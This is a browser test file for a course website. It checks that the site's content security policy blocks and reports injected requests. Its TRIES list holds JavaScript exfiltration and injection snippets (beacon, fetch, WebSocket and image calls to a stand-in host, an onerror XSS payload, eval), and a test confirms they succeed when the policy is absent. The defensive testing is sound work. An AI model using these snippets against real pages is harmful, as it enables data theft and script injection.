"""The served book in Chromium under its content security policy: all works, nothing leaves, and a breach is noticed."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from visits import KEPT, wait_until

from vae_course.commands.site import HEADERS

pytestmark = pytest.mark.browser

WATCH = """window.breaches = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.breaches.push(`${event.effectiveDirective} ${event.blockedURI}`));
window.printed = 0;
window.print = () => window.printed++;"""


@pytest.fixture
def visit(open_page, server):
    """Opens a served page with a record of every breach of its policy."""

    def visit(name, **options):
        seen = open_page("about:blank", **options)
        seen.page.set_default_timeout(60_000)  # a chapter on a busy machine
        seen.page.add_init_script(WATCH)
        seen.page.goto(f"{server}/{name}")
        return seen.settle()

    return visit


def breaches(seen):
    return seen.page.evaluate("window.breaches")


def assert_clean(seen):
    assert breaches(seen) == []
    assert seen.faults == []
    assert seen.foreign == []


def test_search_printing_and_colours_work(visit):
    seen = visit("book/notation.html")
    page = seen.page
    page.get_by_role("button", name="Colour mode").click()
    page.get_by_role("button", name="Download this page").click()
    page.locator("[data-print]").click()
    assert page.evaluate("window.printed") == 1
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Search").first.click()
    page.keyboard.type("latent")
    page.keyboard.press("Enter")
    page.wait_for_url("**/search.html*")
    page.locator("#search-results li p.context, #search-results li .context").first.wait_for()
    assert_clean(seen)
    for store, known in KEPT.items():
        assert set(page.evaluate(f"Object.keys({store})")) <= known
    assert page.evaluate("localStorage.mode") != "auto"


def test_the_server_sends_what_a_page_cannot_say(visit, server, open_page, tmp_path):
    seen = visit("book/notation.html")
    response = seen.page.request.get(f"{server}/book/notation.html")
    assert {name: response.headers[name.lower()] for name in HEADERS} == HEADERS
    frame = tmp_path / "frame.html"
    frame.write_text(f'<title>Other</title><iframe src="{server}/book/notation.html"></iframe>', encoding="utf-8")
    other = open_page(frame.as_uri())
    (inner,) = [part for part in other.page.frames if part != other.page.main_frame]
    assert inner.locator("article").count() == 0
    assert "frame-ancestors" in " ".join(other.faults)


# --- what a foreign text in a page could try; each try is a breach, and nothing arrives elsewhere ---

TRIES = {
    "connect-src fetch": "fetch('OTHER/fetch', {mode: 'no-cors'}).catch(() => 0)",
    "connect-src own": "fetch(location.href).catch(() => 0)",
    "connect-src request": "const r = new XMLHttpRequest(); r.open('GET', 'OTHER/xhr'); r.send()",
    "connect-src beacon": "navigator.sendBeacon('OTHER/beacon', 'words')",
    "connect-src socket": "new WebSocket('OTHER/socket'.replace('http', 'ws'))",
    "connect-src events": "new EventSource('OTHER/events')",
    "img-src": "new Image().src = 'OTHER/image?words'",
    "style-src-elem": "document.head.append(Object.assign(document.createElement('link'), "
    "{rel: 'stylesheet', href: 'OTHER/style.css'}))",
    "font-src": "new FontFace('a', 'url(OTHER/font.woff)').load().catch(() => 0)",
    "media-src": "new Audio('OTHER/sound').play().catch(() => 0)",
    "frame-src": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'OTHER/frame'}))",
    "object-src": "document.body.append(Object.assign(document.createElement('object'), {data: 'OTHER/object'}))",
    "worker-src": "try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch {}",
    "form-action": "const f = Object.assign(document.createElement('form'), {action: 'OTHER/form', method: 'post'}); "
    "document.body.append(f); f.submit()",
    "base-uri": "document.head.prepend(Object.assign(document.createElement('base'), {href: 'OTHER/'}))",
    "script-src-elem inline": "document.body.append(Object.assign(document.createElement('script'), "
    "{textContent: 'window.ran = 1'}))",
    "script-src-elem other": "document.body.append(Object.assign(document.createElement('script'), "
    "{src: 'OTHER/script.js'}))",
    "script-src-elem data": "document.body.append(Object.assign(document.createElement('script'), "
    "{src: 'data:text/javascript,window.ran=1'}))",
    "script-src-elem import": "import('OTHER/module.mjs').catch(() => 0)",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', "
    '\'<img src="data:," onerror="window.ran = 1">\')',
    "script-src-elem link": "Object.assign(document.createElement('a'), {href: 'javascript:window.ran=1'}).click()",
    "script-src eval": "try { eval('window.ran = 1') } catch {}",
    "script-src function": "try { new Function('window.ran = 1')() } catch {}",
}


@pytest.fixture
def elsewhere():
    """Another host, with all that reached it."""
    arrived = []

    class Listener(BaseHTTPRequestHandler):
        def answer(self):
            arrived.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_GET = do_POST = do_HEAD = do_OPTIONS = answer

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}", arrived
        server.shutdown()


def test_every_breach_is_stopped_and_noticed(visit, elsewhere):
    other, arrived = elsewhere
    seen = visit("book/notation.html")
    for kind, code in TRIES.items():
        seen.page.evaluate("window.breaches.length = 0")
        # in the page's own time: what DevTools evaluates may make code from text
        handler = "new Promise((done) => setTimeout(() => { TRY; done(); }))".replace(
            "TRY", code.replace("OTHER", other)
        )
        seen.page.evaluate(f"() => {{ {handler} }}")
        wait_until(seen.page, "window.breaches.length > 0")
        assert breaches(seen)[0].startswith(kind.split()[0] + " "), kind
    assert arrived == []
    assert seen.page.evaluate("window.ran") is None
    assert len(seen.faults) >= len(TRIES), "the record that all tests of the pages use notices a breach too"


def test_without_the_policy_the_tries_would_arrive(open_page, site, elsewhere, tmp_path):
    """Proof that the test above can fail: the same tries in the same page without its policy."""
    other, arrived = elsewhere
    bare = tmp_path / "bare.html"
    bare.write_text(
        '<!doctype html><html lang="en"><title>Bare</title><body><p>words</p></body></html>', encoding="utf-8"
    )
    page = open_page(bare.as_uri()).page
    for kind in ("connect-src fetch", "connect-src beacon", "img-src", "style-src-elem", "script-src-elem other"):
        page.evaluate(f"() => {{ {TRIES[kind].replace('OTHER', other)} }}")
    page.evaluate(f"() => {{ {TRIES['script-src-attr']} }}")
    page.wait_for_function("window.ran === 1")
    for _ in range(50):
        if {path.split("?")[0] for path in arrived} >= {"/fetch", "/beacon", "/image", "/style.css", "/script.js"}:
            break
        page.wait_for_timeout(100)
    assert {path.split("?")[0] for path in arrived} >= {"/fetch", "/beacon", "/image", "/style.css", "/script.js"}
